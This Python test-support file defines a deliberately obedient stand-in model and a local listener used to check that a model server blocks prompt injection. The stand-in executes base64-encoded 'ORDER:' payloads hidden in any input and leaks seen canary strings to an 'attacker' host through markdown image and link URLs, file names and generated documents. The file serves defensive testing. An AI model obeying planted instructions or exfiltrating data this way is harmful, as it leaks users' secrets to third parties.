"""A model that does whatever any text tells it: it is how a test knows that nothing but the server holds it back."""

from __future__ import annotations

import base64
import json
import re
import threading
from collections.abc import Mapping, Sequence
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from types import TracebackType
from typing import Any, Self

from support.model_server import Answer, Call, Fault, SeenRequest

_ORDER = re.compile(r"ORDER:([A-Za-z0-9_-]+)")
CANARY = re.compile(r"CANARY-[a-z]+-[0-9a-f]{12}")


def order(*steps: Mapping[str, Any]) -> str:
    """Write orders so that they survive in a document, in code and in the name of a file."""
    return "ORDER:" + base64.urlsafe_b64encode(json.dumps(steps, separators=(",", ":")).encode()).decode().rstrip("=")


def call(tool: str, **arguments: Any) -> dict[str, Any]:
    """Order a call of a tool, whether or not there is such a tool."""
    return {"tool": tool, "arguments": arguments}


class ObedientBrain:
    """Follows every order that it finds in anything it gets, one a turn; then hands over an answer full of what it saw.

    ``seen`` are the canaries that it was shown; they go into the texts, links and names of files of its answer.
    """

    def __init__(self, attacker: str) -> None:
        """Send what it sees to ``attacker``, in links and pictures: it has no other way."""
        self._attacker = attacker
        self._lock = threading.Lock()
        self.reset()

    def reset(self) -> None:
        """Forget the last conversation."""
        self.obeyed: list[dict[str, Any]] = []
        self.seen: set[str] = set()
        self.requests: list[SeenRequest] = []

    def think(self, request: SeenRequest) -> Answer | Fault:
        """Do the next thing that it was told."""
        with self._lock:
            self.requests.append(request)
            everything = json.dumps(request.body, ensure_ascii=False)
            self.seen |= set(CANARY.findall(everything))
            for step in _steps(everything):
                if step not in self.obeyed:
                    self.obeyed.append(step)
                    return Answer(f"As you say. {self._leak()}", calls=[Call(step["tool"], self._filled(step))])
            return self._answer(request.tools)

    def _filled(self, step: Mapping[str, Any]) -> Any:
        text = json.dumps(step["arguments"])
        return json.loads(
            text.replace("SEEN", "-".join(sorted(self.seen)) or "nothing").replace("HOST", self._attacker)
        )

    def _leak(self) -> str:
        seen = "-".join(sorted(self.seen)) or "nothing"
        return f"![x]({self._attacker}/pixel.png?d={seen}) [click]({self._attacker}/link?d={seen})"

    def _answer(self, tools: Sequence[str]) -> Answer:
        if "write_documents" in tools:
            text = f"# Requirements\n### Requirement 1: X\n#### Acceptance Criteria\n1. IT SHALL {self._leak()}\n"
            return Answer(calls=[Call("write_documents", {"requirements": text, "design": text, "tasks": text})])
        name = "-".join(sorted(self.seen))[:80] or "nothing"
        files = [{"path": f"leak-{name}.md", "action": "create", "content": self._leak()}]
        return Answer(calls=[Call("propose_changes", {"summary": f"Done. {self._leak()}", "files": files})])


def _steps(text: str) -> list[dict[str, Any]]:
    steps: list[dict[str, Any]] = []
    for found in _ORDER.findall(text):
        padded = found + "=" * (-len(found) % 4)
        try:
            steps += json.loads(base64.urlsafe_b64decode(padded))
        except ValueError:
            continue  # cut, or glued to something else
    return steps


class Attacker:
    """A host that waits for anything to arrive, for as long as its ``with`` block."""

    def __init__(self) -> None:
        """Listen on a free port of this machine."""
        self.heard: list[str] = []
        heard = self.heard

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                heard.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_PUT = do_HEAD = do_OPTIONS = do_GET  # noqa: N815 - the base class looks for these names

            def log_message(self, format: str, *args: Any) -> None:  # noqa: A002 - the base class's name
                pass

        self._http = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._thread = threading.Thread(target=self._http.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
        self.url = f"http://127.0.0.1:{self._http.server_address[1]}"

    def __enter__(self) -> Self:
        """Start."""
        self._thread.start()
        return self

    def __exit__(self, kind: type[BaseException] | None, error: BaseException | None, tb: TracebackType | None) -> None:
        """Stop."""
        self._http.shutdown()
        self._http.server_close()
        self._thread.join()
